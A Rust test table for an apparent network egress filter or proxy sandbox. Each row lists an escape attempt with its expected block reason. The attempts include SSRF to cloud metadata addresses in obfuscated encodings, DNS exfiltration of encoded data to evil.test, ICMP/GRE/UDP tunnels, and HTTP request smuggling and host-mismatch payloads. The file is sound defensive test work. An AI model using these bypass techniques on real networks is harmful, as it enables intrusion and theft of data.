//! The rows of the table.

#![expect(clippy::too_many_lines, reason = "a table is as long as it has rows")]

use super::Modes::{Both, Enforce};
use super::{Attempt, Row};

/// Returns all rows.
pub fn table() -> Vec<Row> {
    [addresses(), datagrams(), lookups(), connects(), requests(), openings()]
        .into_iter()
        .flatten()
        .collect()
}

fn get(target: &str, host: &str) -> Vec<u8> {
    format!("GET {target} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n").into()
}

fn connect(target: &str) -> Attempt {
    Attempt::Proxy(format!("CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n").into())
}

fn post(fields: &str, body: &str) -> Attempt {
    Attempt::Proxy(
        format!("POST http://web.example/ HTTP/1.1\r\nHost: web.example\r\n{fields}\r\n{body}")
            .into(),
    )
}

fn addresses() -> Vec<Row> {
    let tcp = |to| Attempt::Tcp(to, get("/", "x"));
    vec![
        ("metadata service", Both, tcp("169.254.169.254:80"), "169.254.169.254:80 address"),
        ("metadata of containers", Both, tcp("169.254.170.2:80"), "169.254.170.2:80 address"),
        ("Azure's host service", Both, tcp("168.63.129.16:80"), "168.63.129.16:80 address"),
        ("Alibaba's metadata", Both, tcp("100.100.100.200:80"), "100.100.100.200:80 address"),
        ("Oracle's metadata", Both, tcp("192.0.0.192:80"), "192.0.0.192:80 address"),
        ("metadata over TLS", Both, tcp("169.254.169.254:443"), "169.254.169.254:443 address"),
        ("RFC 1918, ten", Both, tcp("10.0.0.1:80"), "10.0.0.1:80 address"),
        ("RFC 1918, twelve", Both, tcp("172.16.0.1:443"), "172.16.0.1:443 address"),
        ("RFC 1918, sixteen", Both, tcp("192.168.1.1:80"), "192.168.1.1:80 address"),
        ("carrier-grade NAT", Both, tcp("100.64.0.1:80"), "100.64.0.1:80 address"),
        ("gateway's web port", Both, tcp("172.31.0.1:80"), "172.31.0.1:80 address"),
        ("the host's own address", Both, tcp("192.0.32.9:443"), "192.0.32.9:443"),
        ("this network", Both, tcp("0.1.2.3:80"), "0.1.2.3:80 address"),
        (
            "benchmark range without a name",
            Both,
            tcp("198.19.99.99:443"),
            "198.19.99.99:443 unknown-synthetic",
        ),
        ("documentation range", Both, tcp("203.0.113.1:443"), "203.0.113.1:443 address"),
        ("class E", Both, tcp("240.0.0.1:443"), "240.0.0.1:443 address"),
        ("a public address", Enforce, tcp("192.0.32.8:443"), "192.0.32.8:443 literal"),
        ("a port out of the list", Enforce, tcp("192.0.32.8:22"), "192.0.32.8:22 closed-port"),
        ("gateway's SSH", Enforce, tcp("172.31.0.1:22"), "172.31.0.1:22 closed-port"),
        ("DNS over TLS", Enforce, tcp("192.0.32.8:853"), "192.0.32.8:853 closed-port"),
        ("DNS over TCP elsewhere", Enforce, tcp("192.0.32.8:53"), "192.0.32.8:53 closed-port"),
    ]
}

fn datagrams() -> Vec<Row> {
    let query = b"\0\x01\x01\0\0\x01\0\0\0\0\0\0\x01x\x04test\0\0\x01\0\x01".to_vec();
    vec![
        (
            "DNS to a public resolver",
            Both,
            Attempt::Udp("8.8.8.8:53", query),
            "8.8.8.8:53 protocol",
        ),
        ("QUIC", Both, Attempt::Udp("192.0.32.8:443", vec![0xc3; 1200]), "192.0.32.8:443 protocol"),
        (
            "UDP tunnel",
            Both,
            Attempt::Udp("192.0.32.8:51820", vec![1; 148]),
            "192.0.32.8:51820 protocol",
        ),
        (
            "time service",
            Both,
            Attempt::Udp("192.0.32.8:123", vec![0x23; 48]),
            "192.0.32.8:123 protocol",
        ),
        (
            "ICMP tunnel",
            Both,
            Attempt::Raw("192.0.32.8", 1, vec![8, 0, 0xf7, 0xff, 0, 0, 0, 0]),
            "192.0.32.8:0 protocol",
        ),
        ("GRE tunnel", Both, Attempt::Raw("192.0.32.9", 47, vec![0; 8]), "192.0.32.9:0 protocol"),
        (
            "IP in IP",
            Both,
            Attempt::Raw("192.0.32.10", 4, vec![0x45; 20]),
            "192.0.32.10:0 protocol",
        ),
        ("SCTP", Both, Attempt::Raw("192.0.32.11", 132, vec![0; 12]), "192.0.32.11:0 protocol"),
        ("a raw frame", Both, Attempt::Frame(0x88b5, b"out".to_vec()), ":0 protocol"),
        (
            "an IPv6 connection",
            Both,
            Attempt::Frame(0x86dd, ipv6(6, "2001:db8::1", &[0, 1, 1, 0xbb])),
            "2001:db8::1:443 protocol",
        ),
        (
            "IPv6 metadata",
            Both,
            Attempt::Frame(0x86dd, ipv6(6, "fd00:ec2::254", &[0, 1, 0, 80])),
            "fd00:ec2::254:80 protocol",
        ),
        (
            "a router advertisement",
            Both,
            Attempt::Frame(0x86dd, ipv6(58, "ff02::1", &[134, 0])),
            "ff02::1:0 protocol",
        ),
    ]
}

fn ipv6(next: u8, to: &str, payload: &[u8]) -> Vec<u8> {
    let mut packet = vec![0x60, 0, 0, 0, 0, 20, next, 64];
    packet.extend([0xfe, 0x80, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 9]);
    packet.extend(to.parse::<std::net::Ipv6Addr>().unwrap().octets());
    packet.extend(payload);
    packet.resize(60, 0);
    packet
}

fn lookups() -> Vec<Row> {
    vec![
        (
            "data in a name",
            Enforce,
            Attempt::Dns(b"\x10c2VjcmV0c2VjcmV0\x04evil\x04test\0", 1),
            "c2vjcmv0c2vjcmv0.evil.test:0 no-rule",
        ),
        (
            "data in a TXT query",
            Enforce,
            Attempt::Dns(b"\x04evil\x04test\0", 16),
            "evil.test:0 no-rule",
        ),
        ("a NULL query", Enforce, Attempt::Dns(b"\x05evil2\x04test\0", 10), "evil2.test:0 no-rule"),
        (
            "a homograph",
            Enforce,
            Attempt::Dns(b"\x03web\x0exn--exmple-cua\0", 1),
            "web.xn--exmple-cua:0 no-rule",
        ),
        ("a dot within a label", Both, Attempt::Dns(b"\x0bweb.example\0", 1), "host"),
        (
            "bytes that are not a name",
            Both,
            Attempt::Dns(b"\x03\xff\xfe\xfd\x07example\0", 1),
            "host",
        ),
    ]
}

fn connects() -> Vec<Row> {
    vec![
        ("CONNECT to metadata", Both, connect("169.254.169.254:80"), "169.254.169.254:80 address"),
        ("in decimal", Both, connect("2852039166:80"), "2852039166:80 host"),
        ("in hexadecimal", Both, connect("0xa9fea9fe:80"), "0xa9fea9fe:80 host"),
        (
            "in dotted hexadecimal",
            Both,
            connect("0xa9.0xfe.0xa9.0xfe:80"),
            "0xa9.0xfe.0xa9.0xfe:80 host",
        ),
        ("in octal", Both, connect("0251.0376.0251.0376:80"), "0251.0376.0251.0376:80 host"),
        ("in two parts", Both, connect("169.16689662:80"), "169.16689662:80 host"),
        ("with a trailing dot", Both, connect("169.254.169.254.:80"), "169.254.169.254.:80 host"),
        (
            "IPv4-mapped",
            Both,
            connect("[::ffff:169.254.169.254]:80"),
            "[::ffff:169.254.169.254]:80 address",
        ),
        ("IPv4-compatible", Both, connect("[::a9fe:a9fe]:80"), ":80 address"),
        ("NAT64 of metadata", Both, connect("[64:ff9b::a9fe:a9fe]:80"), ":80 address"),
        ("6to4 of metadata", Both, connect("[2002:a9fe:a9fe::1]:80"), ":80 address"),
        ("IPv6 metadata", Both, connect("[fd00:ec2::254]:80"), "[fd00:ec2::254]:80 address"),
        ("IPv6 loopback", Both, connect("[::1]:80"), "[::1]:80 address"),
        ("IPv6 with a zone", Both, connect("[fe80::1%25eth0]:80"), "[fe80::1%25eth0]:80 host"),
        ("loopback", Both, connect("127.0.0.1:22"), "127.0.0.1:22 address"),
        ("loopback, short", Both, connect("127.1:22"), "127.1:22 host"),
        ("zero", Both, connect("0:22"), "0:22 host"),
        ("the proxy itself", Both, connect("172.31.0.1:3128"), "172.31.0.1:3128 address"),
        ("user info", Both, connect("web.example@169.254.169.254:80"), "…@169.254.169.254:80 host"),
        (
            "user info the other way",
            Both,
            connect("169.254.169.254@web.example:443"),
            "…@web.example:443 host",
        ),
        (
            "a name at loopback",
            Both,
            connect("loopback.example:443"),
            "loopback.example:443 address",
        ),
        (
            "a name at metadata",
            Both,
            connect("metadata.example:443"),
            "metadata.example:443 address",
        ),
        (
            "a name at a private address",
            Both,
            connect("private.example:443"),
            "private.example:443 address",
        ),
        ("a name at the host", Both, connect("host.example:443"), "host.example:443 address"),
        (
            "a name at one good and one bad address",
            Both,
            connect("mixed.example:443"),
            "mixed.example:443 address",
        ),
        ("a public address", Enforce, connect("192.0.32.8:443"), "192.0.32.8:443 literal"),
        ("another name", Enforce, connect("evil.test:443"), "evil.test:443 no-rule"),
        (
            "a homograph",
            Enforce,
            connect("web.xn--exmple-cua:443"),
            "web.xn--exmple-cua:443 no-rule",
        ),
        (
            "an allowed name at another port",
            Enforce,
            connect("web.example:25"),
            "web.example:25 port",
        ),
        ("no port", Both, connect("web.example"), "web.example:0 host"),
        ("port zero", Both, connect("web.example:0"), "web.example:0 host"),
        ("a percent-encoded name", Both, connect("web%2eexample:443"), "web%2eexample:443 host"),
        (
            "a NUL in the name",
            Both,
            Attempt::Proxy(b"CONNECT web.example\0.evil:443 HTTP/1.1\r\n\r\n".into()),
            "172.31.0.1:3128 request",
        ),
        (
            "another Host than the target",
            Both,
            Attempt::Proxy(
                b"CONNECT web.example:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n".into(),
            ),
            "web.example:443 host-mismatch",
        ),
        (
            "bytes after CONNECT",
            Both,
            Attempt::Proxy(
                b"CONNECT web.example:443 HTTP/1.1\r\nHost: web.example\r\n\r\n\x16\x03\x01".into(),
            ),
            "172.31.0.1:3128 request",
        ),
    ]
}

fn requests() -> Vec<Row> {
    let proxy = |target, host| Attempt::Proxy(get(target, host));
    let raw = |text: &str| Attempt::Proxy(text.into());
    let malformed = "172.31.0.1:3128 request";
    vec![
        (
            "a URL unlike its Host",
            Both,
            proxy("http://web.example/", "evil.test"),
            "web.example:80 host-mismatch",
        ),
        (
            "a URL with an address",
            Both,
            proxy("http://169.254.169.254/", "169.254.169.254"),
            "169.254.169.254:80 address",
        ),
        (
            "a URL with a name at loopback",
            Both,
            proxy("http://loopback.example/", "loopback.example"),
            "loopback.example:80 address",
        ),
        (
            "a URL with a decimal address",
            Both,
            proxy("http://2852039166/", "2852039166"),
            "2852039166:80 host",
        ),
        ("a URL with user info", Both, proxy("http://web.example@evil.test/", "evil.test"), "host"),
        (
            "an https URL",
            Both,
            proxy("https://web.example/", "web.example"),
            "web.example:80 request",
        ),
        ("a gopher URL", Both, proxy("gopher://web.example/", "web.example"), "request"),
        ("a path only", Both, proxy("/", "web.example"), ":80 request"),
        (
            "plain HTTP to port 443",
            Enforce,
            proxy("http://web.example:443/", "web.example:443"),
            "web.example:443 not-tls",
        ),
        (
            "CL and TE",
            Both,
            post("Content-Length: 4\r\nTransfer-Encoding: chunked\r\n", "0\r\n\r\n"),
            malformed,
        ),
        (
            "TE and CL",
            Both,
            post("Transfer-Encoding: chunked\r\nContent-Length: 4\r\n", "0\r\n\r\n"),
            malformed,
        ),
        ("two lengths", Both, post("Content-Length: 0\r\nContent-Length: 4\r\n", ""), malformed),
        ("an odd encoding", Both, post("Transfer-Encoding: x, chunked\r\n", ""), malformed),
        ("a blank before the colon", Both, post("Content-Length : 4\r\n", "abcd"), malformed),
        ("a folded field", Both, post("X: a\r\n b\r\n", ""), malformed),
        ("a bare line feed", Both, post("X: a\nContent-Length: 4\r\n", ""), malformed),
        ("a bare carriage return", Both, post("X: a\rb\r\n", ""), malformed),
        ("two Hosts", Both, post("Host: evil.test\r\n", ""), malformed),
        (
            "a chunk extension",
            Both,
            post("Transfer-Encoding: chunked\r\n", "4;a\r\nabcd\r\n"),
            malformed,
        ),
        (
            "a long chunk",
            Both,
            post("Transfer-Encoding: chunked\r\n", "4\r\nabcdef\r\n"),
            malformed,
        ),
        ("HTTP/2", Both, raw("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), malformed),
        ("HTTP/0.9", Both, raw("GET http://web.example/\r\n\r\n"), malformed),
        ("no HTTP at all", Both, raw("SSH-2.0-OpenSSH\r\n\r\n"), malformed),
    ]
}

fn openings() -> Vec<Row> {
    let name = |port, bytes: &[u8]| Attempt::Name("web.example", port, bytes.to_vec());
    vec![
        ("no TLS on 443", Enforce, name(443, b"SSH-2.0-x\r\n"), "web.example:443 not-tls"),
        (
            "HTTP on 443",
            Enforce,
            Attempt::Name("web.example", 443, get("/", "web.example")),
            "web.example:443 not-tls",
        ),
        ("SSLv2", Enforce, name(443, b"\x80\x2e\x01\x00\x02"), "web.example:443 not-tls"),
        (
            "a malformed hello",
            Enforce,
            name(443, b"\x16\x03\x01\0\x05\x01\0\0\x01\0"),
            "web.example:443 client-hello",
        ),
        (
            "an endless hello",
            Enforce,
            name(443, b"\x16\x03\x01\x40\0\x01\xff\xff\xff"),
            "web.example:443 client-",
        ),
        (
            "another Host on 80",
            Enforce,
            Attempt::Name("web.example", 80, get("/", "evil.test")),
            "web.example:80 host-mismatch",
        ),
        (
            "an absolute URL on 80",
            Enforce,
            Attempt::Name("web.example", 80, get("http://evil.test/", "evil.test")),
            "web.example:80 host-mismatch",
        ),
        ("no HTTP on 80", Enforce, name(80, b"SSH-2.0-x\r\n\r\n"), "web.example:80 request"),
        (
            "CONNECT on 80",
            Enforce,
            name(80, b"CONNECT evil.test:443 HTTP/1.1\r\nHost: web.example\r\n\r\n"),
            "web.example:80 host-mismatch",
        ),
    ]
}
